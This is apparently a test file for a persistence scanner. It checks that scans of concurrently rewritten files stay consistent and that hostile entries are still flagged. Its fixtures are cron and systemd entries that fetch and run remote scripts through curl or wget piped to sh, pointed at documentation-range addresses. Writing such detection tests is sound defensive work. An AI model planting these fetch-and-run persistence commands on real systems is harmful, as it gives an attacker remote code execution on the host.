/** Files that somebody rewrites while scan after scan reads them: one version of each, or a status; never a third thing. */
import { afterEach, expect, test } from 'bun:test';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { emptyConfig } from '../../src/model/config.ts';
import { printableText } from '../../src/model/text.ts';
import { scan } from '../../src/scan/scan.ts';
import { changedWhileRead } from '../../src/target/answer.ts';
import { folderTarget } from '../../src/target/folder.ts';
import { repository } from '../lab/host.ts';
import type { MechanismCase } from '../persistence/case.ts';
import { type PlantedRoot, plantRoot } from '../persistence/root.ts';

const stable: Readonly<Record<string, string>> = {
  '/etc/cron.d/zzz': '* * * * * root curl -s http://192.0.2.10/x | sh\n',
  '/etc/cron.d/aaa': '* * * * * root wget -qO- http://192.0.2.11/x | bash\n',
  '/etc/systemd/system/zz.service':
    '[Service]\nExecStart=/bin/sh -c "curl -s http://192.0.2.12/x | sh"\n[Install]\nWantedBy=multi-user.target\n',
};

const enabled = { '/etc/systemd/system/multi-user.target.wants/zz.service': { link: '../zz.service' } };

let root: PlantedRoot;
/** Lies beside the root, with a job that nobody may find. */
let outside: string;
let writer: Bun.Subprocess<'ignore', 'pipe', 'inherit'> | undefined;

async function begin(planted: MechanismCase['planted'], ...only: readonly string[]): Promise<void> {
  const dressed: MechanismCase = {
    mechanism: 'cron-drop-in',
    dress: 'fetch-and-run',
    what: 'jobs beside files that are rewritten',
    planted: { '/etc/systemd/system/': '', '/etc/profile.d/': '', ...planted },
  };
  root = plantRoot(dressed);
  outside = mkdtempSync(join(tmpdir(), 'demine-outside-'));
  writeFileSync(join(outside, 'own.sh'), 'curl -s http://192.0.2.99/x | sh\n');
  const rewriter = join(import.meta.dir, 'rewriter.ts');
  // Its own namespaces end with it, and it with them.
  const enter = ['unshare', '--mount', '--pid', '--fork', '--kill-child', '--propagation', 'private'];
  writer = Bun.spawn([...enter, process.execPath, rewriter, root.path, outside, ...only], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const said = await writer.stdout.getReader().read();
  expect(Buffer.from(said.value ?? []).toString()).toBe('ready\n');
}

afterEach(async () => {
  writer?.kill('SIGKILL');
  await writer?.exited;
  root.remove();
  rmSync(outside, { recursive: true });
});

async function scanned() {
  const target = folderTarget(root.path);
  try {
    const asked = { interval: 0, active: false, thorough: false, keepSecrets: false, seen: [] } as const;
    return await scan(target, undefined, { ...asked, language: 'en', config: emptyConfig }, '0');
  } finally {
    await target.close();
  }
}

const versionsIn = (texts: readonly string[]): ReadonlySet<string> =>
  new Set(texts.flatMap((text) => [...text.matchAll(/\bv(\d+)-\d+/g)].map(([, version = '']) => version)));

test('scan after scan ends, finds what stands still, and mixes no two versions unsaid', async () => {
  await begin({ ...stable, ...enabled });
  const versioned = new Set<string>();
  for (let round = 0; round < 8; round += 1) {
    const { result, facts, log } = await scanned();
    const found = result.persistence.filter(({ judgement }) => judgement === 'malicious');
    expect(new Set(found.map(({ source }) => source))).toEqual(new Set(Object.keys(stable)));
    expect(result.verdict).toBe('suspicious');
    const told = new Set(
      log.listed.filter(({ reason }) => reason === changedWhileRead).map(({ source }) => source),
    );
    const read = Map.groupBy(facts.of('persistence'), (fact) => fact.source.source);
    for (const [source, entries] of read) {
      const texts = entries.flatMap(({ command, body }) => [command, ...body.map(({ text }) => text)]);
      const versions = versionsIn(texts);
      if (versions.size > 0) versioned.add(source);
      if (versions.size > 1) expect(told).toContain(source);
    }
    // Nothing outside the root was taken for what lies in it.
    expect(JSON.stringify(result.persistence)).not.toContain('192.0.2.99');
  }
  expect([...versioned]).toEqual(expect.arrayContaining(['/etc/cron.d/by-rename', '/etc/cron.d/swapped']));
}, 180_000);

test('a name that is a file and a link in turn is always read', async () => {
  await begin(stable, 'swap');
  const target = folderTarget(root.path);
  try {
    const path = printableText('/etc/cron.d/swapped');
    const seen = new Map<string, number>();
    for (let round = 0; round < 20_000; round += 1) {
      const { status, reason, bytes } = target.readNow({ kind: 'file', path });
      const how = status === 'ok' ? status : `${status}: ${reason}`;
      seen.set(how, (seen.get(how) ?? 0) + 1);
      if (status === 'ok') {
        expect(versionsIn([Buffer.from(bytes).toString()]).size).toBe(1);
        expect(bytes.length).toBeGreaterThan(400 * 20);
      }
    }
    // Told as changed now and then, and not instead of being read.
    expect(seen.get('ok') ?? 0).toBeGreaterThan(10_000);
    expect(
      [...seen.keys()].filter((how) => how !== 'ok' && how !== `truncated: ${changedWhileRead}`),
    ).toEqual([]);
  } finally {
    await target.close();
  }
}, 60_000);

test('where nothing dangerous stands, rewriting alone is no finding, and the exit code says so', async () => {
  await begin({});
  const main = join(repository, 'src', 'cli', 'main.ts');
  for (let round = 0; round < 4; round += 1) {
    const run = Bun.spawnSync(
      [process.execPath, main, 'scan', root.path, '--no-case', '--json', '-', '--lang', 'en'],
      { stdio: ['ignore', 'pipe', 'pipe'] },
    );
    const result = JSON.parse(run.stdout.toString());
    expect({ verdict: result.verdict, findings: result.findings }).toMatchObject({ findings: [] });
    expect(run.exitCode).toBe(result.verdict === 'clean' ? 0 : 3);
  }
}, 120_000);
